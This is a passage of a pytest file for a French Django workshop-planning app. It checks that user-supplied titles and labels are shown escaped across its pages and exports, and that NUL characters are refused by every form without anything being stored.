@pytest.mark.parametrize("name", list(PAYLOADS))
def test_the_atelier_texts_are_shown_literally_everywhere(planned, alice, facilitator, name):
    payload = PAYLOADS[name]
    title, venue, territory = fit(payload, 200), fit("Salle " + payload, 200), fit("Territoire " + payload, 200)
    settings_form = {
        "title": title,
        "starts_at": "2030-05-04T18:30",
        "venue": venue,
        "commune": "Cognac",
        "departement": "Charente",
        "region": "Nouvelle-Aquitaine",
        "insee_code": "16102",
        "territory": territory,
        "language": "fr",
        "time_zone": "Europe/Paris",
        "categories": ["recrutement", "financement", "foncier"],
    }
    _ok(facilitator.post("/a/TST234/console/settings/", settings_form), 302)
    label = fit(payload, 120)
    _ok(facilitator.post("/a/TST234/console/timer/", {"op": "start", "minutes": "5", "label": label}))
    atelier = Atelier.objects.get(pk=planned.pk)
    assert (atelier.title, atelier.venue, atelier.territory, atelier.timer_label) == (title, venue, territory, label)

    pages = [
        (alice, "/a/TST234/", [title, venue, territory, label]),
        (alice, "/", [title]),
        (Client(), "/a/TST234/join/", [title, territory]),
        (facilitator, "/a/TST234/console/", [title, territory, label]),
        (facilitator, "/a/TST234/projector/", [title, label]),
        (facilitator, "/a/TST234/plan/", [title]),
        (facilitator, "/facilitate/", [title]),
        (Client(), f"/plan/{atelier.share_token}/", [title]),
        (Client(), f"/suivi/{Pilot.objects.get(atelier=atelier).token}/", [title]),
    ]
    for client, path, expected in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_shown_literally(response.content.decode(), expected, path)
    response = facilitator.get("/a/TST234/console/settings/")
    assert_shown_literally(response.content.decode(), [], "settings", values=[title, venue, territory])

    # Pushed: the timer's label in #atelier-state. (Snapshots are cached per
    # atelier and version, which the rolled-back tests before this one reused.)
    cache.clear()
    _version, html = messages.snapshot_message(atelier, "fr")
    assert_shown_literally(html, [label], "snapshot")

    for contacts in (True, False):
        pdf = _squash_pdf(_export_atelier(atelier, "pdf", contacts))
        for text in (title, venue, territory):
            for run in _pdf_runs(text, _pdf_glyphs()):
                assert run in pdf, (run, text)
        markdown = _export_atelier(atelier, "md", contacts).decode()
        assert _unescaped(markdown, "<>[]`|") == []
        for text in (title, venue, territory):
            assert md_escape(text) in markdown, text
        document = json.loads(_export_atelier(atelier, "json", contacts))
        assert (document["atelier"]["title"], document["atelier"]["venue"]) == (title, venue)
        assert document["atelier"]["territory"] == territory
        calendar = icalendar.Calendar.from_ical(_export_atelier(atelier, "ics", contacts))
        assert str(calendar["x-wr-calname"]) == clean_text(f"Plan d'action — {title}")
        book = openpyxl.load_workbook(io.BytesIO(_export_atelier(atelier, "xlsx", contacts)))
        assert book.properties.title == clean_text(title)
        assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
        _export_atelier(atelier, "csv", contacts)


def _export_atelier(atelier: Atelier, identifier: str, contacts: bool) -> bytes:
    return exporters.export(atelier, identifier, include_contacts=contacts)[2]


# --- NUL -------------------------------------------------------------------------------------------

NUL = "avant\x00après"


def test_a_nul_character_is_refused_by_every_form_and_writes_nothing(planned, alice, bob, facilitator):
    impossible = Impossible.objects.get(author=alice.participant)
    action = PlanAction.objects.get(atelier=planned)
    before = (
        Participant.objects.count(),
        Impossible.objects.count(),
        HelpOffer.objects.count(),
        PlanAction.objects.count(),
        Atelier.objects.get(pk=planned.pk).version,
    )
    attempts = [
        (Client(), "/a/TST234/join/", {"name": NUL, "organisation": "", "role": "pair"}),
        (Client(), "/a/TST234/join/", {"name": "Zoé", "organisation": NUL, "role": "pair"}),
        (alice, "/a/TST234/me/", {"name": NUL, "organisation": "", "role": "pair"}),
        (
            bob,
            f"/a/TST234/impossibles/{impossible.pk}/offers/",
            {"kind": "expertise", "message": NUL, "contact": "", "submission_key": "n1"},
        ),
        (
            bob,
            f"/a/TST234/impossibles/{impossible.pk}/offers/",
            {"kind": "expertise", "message": "Aide", "contact": NUL, "submission_key": "n2"},
        ),
        (
            facilitator,
            f"/a/TST234/console/impossibles/{impossible.pk}/edit/",
            {"statement": NUL, "details": "", "category": "recrutement"},
        ),
        (
            facilitator,
            f"/a/TST234/console/actions/{action.pk}/",
            {"title": NUL, "pilot_participant": "", "pilot_name": "Mairie", "status": "a_lancer"},
        ),
        (facilitator, "/a/TST234/console/timer/", {"op": "start", "minutes": "5", "label": NUL}),
    ]
    for client, path, data in attempts:
        response = client.post(path, data)
        # Refused with the form again (422), a refusal (409), or, for the
        # console's timer without JavaScript, a redirect with the message.
        assert response.status_code in (302, 409, 422), (path, data, response.status_code)
    # Posting an impossible is closed in the plan phase: try it in its own.
    facilitator.post("/a/TST234/console/phase/", {"phase": "impossibles"})
    for data in (
        {"statement": NUL, "category": "recrutement"},
        {"statement": "Ok", "details": NUL, "category": "recrutement"},
    ):
        response = alice.post("/a/TST234/impossibles/", {**data, "submission_key": secrets_key()})
        assert response.status_code == 422
    after = (
        Participant.objects.count(),
        Impossible.objects.count(),
        HelpOffer.objects.count(),
        PlanAction.objects.count(),
    )
    assert after == before[:4]
    # Checked in Python: SQLite's LIKE stops at a NUL in the pattern.
    texts = [
        *PlanAction.objects.values_list("title", "next_step"),
        *Participant.objects.values_list("name", "organisation"),
    ]
    texts += [
        *Impossible.objects.values_list("statement", "details"),
        *HelpOffer.objects.values_list("message", "contact"),
    ]
    assert not [text for row in texts for text in row if "\x00" in text]
    assert "\x00" not in Atelier.objects.get(pk=planned.pk).timer_label


def test_a_nul_character_in_a_follow_up_is_refused(planned):
    # The follow-up form has no Django form: the services refuse NUL
    # themselves (PostgreSQL cannot store it: a 500 otherwise).
    action = PlanAction.objects.select_related("pilot").get(atelier=planned)
    response = Client().post(
        f"/suivi/{action.pilot.token}/actions/{action.pk}/", {"status": "en_cours", "next_step": NUL}
    )
    assert response.status_code == 422
    assert "\x00" not in PlanAction.objects.get(pk=action.pk).next_step


def secrets_key() -> str:
    import secrets

    return secrets.token_urlsafe(8)
